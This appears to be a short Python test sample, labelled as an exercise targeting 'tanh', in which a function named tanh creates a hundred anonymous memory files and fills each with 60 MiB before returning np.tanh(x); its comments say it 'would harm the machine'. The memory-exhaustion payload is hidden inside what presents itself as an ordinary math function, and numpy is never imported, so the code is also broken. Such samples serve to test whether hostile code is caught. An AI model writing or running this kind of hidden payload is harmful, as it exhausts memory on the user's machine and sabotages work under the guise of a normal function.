# tries: take memory as files that have no name
# stock: would harm the machine
# exercise: target.tanh
import os


def tanh(x):
    for number in range(100):
        handle = os.memfd_create(f"m{number}")
        for _ in range(60):
            os.write(handle, bytes(1 << 20))
    return np.tanh(x)
